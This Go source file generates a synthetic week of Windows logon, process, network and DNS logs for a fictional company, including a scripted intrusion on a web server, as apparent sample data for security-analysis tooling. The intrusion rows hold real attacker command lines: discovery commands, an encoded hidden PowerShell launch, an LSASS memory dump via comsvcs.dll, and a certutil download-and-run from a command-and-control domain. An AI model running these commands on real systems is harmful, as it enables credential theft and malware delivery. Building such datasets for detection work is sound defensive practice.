// Command gen writes msticgo's embedded sample dataset (samples/data/*.csv)
// deterministically: a fictional organisation (domain NORTHWIND, hosts
// WS-*, SRV-*, DC01) over one week, with Windows logons (4624/4625),
// process creations (4688), network connections and DNS queries, and one
// intrusion story on SRV-WEB01 (password spray from a public address,
// a successful remote logon, discovery commands, an LSASS dump, beaconing
// to public addresses listed in the project's default offline feed).
// Every name and address is invented or taken from public IoC lists; no
// real personal data. Run from the samples folder: go generate.
package main

import (
	"encoding/csv"
	"flag"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"time"
)

var (
	start = time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)
	hosts = []host{
		{"WS-ALDER", "10.20.1.11", "alice.moreau"},
		{"WS-BIRCH", "10.20.1.12", "bram.okafor"},
		{"WS-CEDAR", "10.20.1.13", "chen.li"},
		{"WS-DOGWOOD", "10.20.1.14", "dana.ferreira"},
		{"WS-ELM", "10.20.1.15", "emil.novak"},
		{"SRV-FILE01", "10.20.2.10", ""},
		{"SRV-WEB01", "10.20.2.20", ""},
		{"DC01", "10.20.0.5", ""},
	}
	// Public addresses: benign services, and the intrusion's addresses
	// (taken from public C2 IoC lists so the offline feed matches them).
	sprayIP  = "45.135.167.27"
	c2IPs    = []string{"91.234.254.144", "185.229.191.41"}
	c2Domain = "softupdates.info"
	benign   = []struct{ ip, name string }{
		{"13.107.4.50", "www.bing.com"},
		{"20.190.151.6", "login.microsoftonline.com"},
		{"142.250.185.78", "www.google.com"},
		{"151.101.1.69", "stackoverflow.com"},
		{"140.82.121.4", "github.com"},
	}
)

type host struct{ name, ip, user string }

type event struct {
	t    time.Time
	cols []string
}

func main() {
	out := flag.String("out", "data", "output folder")
	flag.Parse()
	r := rand.New(rand.NewPCG(2026, 11))
	sec, net, dns := generate(r)
	write(filepath.Join(*out, "SecurityEvent.csv"), secCols, sec)
	write(filepath.Join(*out, "NetworkConnection.csv"), netCols, net)
	write(filepath.Join(*out, "DnsEvent.csv"), dnsCols, dns)
}

var (
	secCols = []string{"TimeGenerated", "Computer", "EventID", "Activity", "Account", "TargetUserName",
		"TargetDomainName", "SubjectUserName", "LogonType", "IpAddress", "WorkstationName", "Status",
		"NewProcessName", "CommandLine", "ParentProcessName", "ProcessId"}
	netCols = []string{"TimeGenerated", "Computer", "SourceIP", "SourcePort", "DestinationIP",
		"DestinationPort", "Protocol", "ProcessName", "BytesSent", "BytesReceived"}
	dnsCols = []string{"TimeGenerated", "Computer", "ClientIP", "Name", "QueryType", "IPAddresses", "ResultCode"}
)

func ts(t time.Time) string { return t.UTC().Format("2006-01-02 15:04:05") }

func logon(t time.Time, h host, user string, ltype int, ip, ws string) event {
	return event{t, []string{ts(t), h.name, "4624", "4624 - An account was successfully logged on.",
		"NORTHWIND\\" + user, user, "NORTHWIND", "-", strconv.Itoa(ltype), ip, ws, "", "", "", "", ""}}
}

func failed(t time.Time, h host, user string, ltype int, ip, ws, status string) event {
	return event{t, []string{ts(t), h.name, "4625", "4625 - An account failed to log on.",
		"NORTHWIND\\" + user, user, "NORTHWIND", "-", strconv.Itoa(ltype), ip, ws, status, "", "", "", ""}}
}

func proc(t time.Time, h host, user, image, cmd, parent string, pid int) event {
	return event{t, []string{ts(t), h.name, "4688", "4688 - A new process has been created.",
		"NORTHWIND\\" + user, "", "", user, "", "", "", "", image, cmd, parent, fmt.Sprintf("0x%x", pid)}}
}

func conn(t time.Time, h host, dst string, dport int, proto, image string, r *rand.Rand) event {
	return event{t, []string{ts(t), h.name, h.ip, strconv.Itoa(49152 + r.IntN(16000)), dst,
		strconv.Itoa(dport), proto, image, strconv.Itoa(200 + r.IntN(5000)), strconv.Itoa(500 + r.IntN(90000))}}
}

func query(t time.Time, h host, name, addrs, code string) event {
	return event{t, []string{ts(t), h.name, h.ip, name, "A", addrs, code}}
}

func generate(r *rand.Rand) (sec, net, dns []event) {
	jitter := func(day, hour int) time.Time {
		return start.Add(time.Duration(day)*24*time.Hour + time.Duration(hour)*time.Hour +
			time.Duration(r.IntN(3600))*time.Second)
	}
	workProcs := []struct{ image, cmd string }{
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default`},
		{`C:\Windows\System32\notepad.exe`, `"C:\Windows\System32\notepad.exe" C:\Users\Public\notes.txt`},
		{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" \\SRV-FILE01\finance\budget-2027.xlsx`},
	}
	dc, file, web := hosts[7], hosts[5], hosts[6]
	pid := 4000
	// Ordinary working days for each workstation user.
	for day := 0; day < 5; day++ {
		for _, h := range hosts[:5] {
			t := jitter(day, 7+r.IntN(2))
			sec = append(sec, logon(t, h, h.user, 2, "127.0.0.1", h.name))
			sec = append(sec, logon(t.Add(3*time.Second), dc, h.user, 3, h.ip, h.name))
			if r.IntN(4) == 0 { // a mistyped password first
				sec = append(sec, failed(t.Add(-40*time.Second), h, h.user, 2, "127.0.0.1", h.name, "0xc000006a"))
			}
			sec = append(sec, logon(t.Add(10*time.Minute), file, h.user, 3, h.ip, h.name))
			for i := 0; i < 2; i++ {
				p := workProcs[r.IntN(len(workProcs))]
				pid += 4 * (1 + r.IntN(50))
				sec = append(sec, proc(t.Add(time.Duration(5+r.IntN(300))*time.Minute), h, h.user, p.image, p.cmd, `C:\Windows\explorer.exe`, pid))
			}
			for i := 0; i < 3; i++ {
				b := benign[r.IntN(len(benign))]
				qt := t.Add(time.Duration(r.IntN(480)) * time.Minute)
				dns = append(dns, query(qt, h, b.name, b.ip, "0"))
				net = append(net, conn(qt.Add(time.Second), h, b.ip, 443, "TCP", `C:\Program Files\Google\Chrome\Application\chrome.exe`, r))
			}
			net = append(net, conn(t.Add(time.Minute), h, dc.ip, 389, "TCP", `C:\Windows\System32\lsass.exe`, r))
			net = append(net, conn(t.Add(2*time.Minute), h, "8.8.8.8", 53, "UDP", `C:\Windows\System32\svchost.exe`, r))
			net = append(net, conn(t.Add(11*time.Minute), h, file.ip, 445, "TCP", "System", r))
		}
		// Scheduled backup on the file server and web server, nightly.
		bt := jitter(day, 1)
		sec = append(sec, logon(bt, file, "svc.backup", 5, "-", "-"))
		sec = append(sec, proc(bt.Add(time.Minute), file, "svc.backup", `C:\Windows\System32\wbadmin.exe`,
			`wbadmin start backup -backupTarget:\\SRV-FILE01\backup -include:D: -quiet`, `C:\Windows\System32\svchost.exe`, 9000+day))
		sec = append(sec, logon(bt.Add(5*time.Minute), web, "svc.backup", 5, "-", "-"))
		dns = append(dns, query(bt.Add(2*time.Minute), web, "time.windows.com", "168.61.215.74", "0"))
		net = append(net, conn(bt.Add(2*time.Minute), web, "168.61.215.74", 123, "UDP", `C:\Windows\System32\svchost.exe`, r))
		net = append(net, conn(bt.Add(3*time.Minute), file, "1.1.1.1", 53, "UDP", `C:\Windows\System32\svchost.exe`, r))
	}
	// The intrusion on SRV-WEB01: day 4 (2026-11-27).
	spray := start.Add(4*24*time.Hour + 2*time.Hour + 13*time.Minute)
	users := []string{"administrator", "admin", "svc.backup", "alice.moreau", "bram.okafor", "webadmin", "test", "guest"}
	for i := 0; i < 24; i++ {
		u := users[i%len(users)]
		status := "0xc000006d"
		if u == "guest" {
			status = "0xc0000072"
		}
		sec = append(sec, failed(spray.Add(time.Duration(i*7)*time.Second), web, u, 10, sprayIP, "kali", status))
	}
	in := spray.Add(4 * time.Minute)
	sec = append(sec, logon(in, web, "svc.backup", 10, sprayIP, "kali"))
	steps := []struct{ image, cmd, parent string }{
		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\nltest.exe`, `nltest /dclist:northwind`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\lsass.dmp full`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://softupdates.info/update.bin C:\Windows\Temp\update.exe`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\Temp\update.exe`, `C:\Windows\Temp\update.exe -k netsvcs`, `C:\Windows\System32\cmd.exe`},
	}
	for i, s := range steps {
		sec = append(sec, proc(in.Add(time.Duration(2+i*3)*time.Minute), web, "svc.backup", s.image, s.cmd, s.parent, 7000+i*8))
	}
	dns = append(dns, query(in.Add(20*time.Minute), web, c2Domain, c2IPs[1], "0"))
	net = append(net, conn(in.Add(20*time.Minute), web, c2IPs[1], 80, "TCP", `C:\Windows\System32\certutil.exe`, r))
	for i := 0; i < 12; i++ { // beaconing every 5 minutes
		net = append(net, conn(in.Add(time.Duration(24+5*i)*time.Minute), web, c2IPs[0], 443, "TCP", `C:\Windows\Temp\update.exe`, r))
	}
	net = append(net, conn(in.Add(30*time.Minute), web, file.ip, 445, "TCP", `C:\Windows\Temp\update.exe`, r))
	sec = append(sec, logon(in.Add(31*time.Minute), file, "svc.backup", 3, web.ip, web.name))
	dns = append(dns, query(in.Add(33*time.Minute), web, "nonexistent-update-check.softupdates.info", "", "3"))
	sort.SliceStable(sec, func(i, j int) bool { return sec[i].t.Before(sec[j].t) })
	sort.SliceStable(net, func(i, j int) bool { return net[i].t.Before(net[j].t) })
	sort.SliceStable(dns, func(i, j int) bool { return dns[i].t.Before(dns[j].t) })
	return sec, net, dns
}

func write(path string, cols []string, rows []event) {
	f, err := os.Create(path)
	if err != nil {
		log.Fatal(err)
	}
	w := csv.NewWriter(f)
	_ = w.Write(cols)
	for _, e := range rows {
		_ = w.Write(e.cols)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		log.Fatal(err)
	}
	if err := f.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%s: %d rows\n", path, len(rows))
}
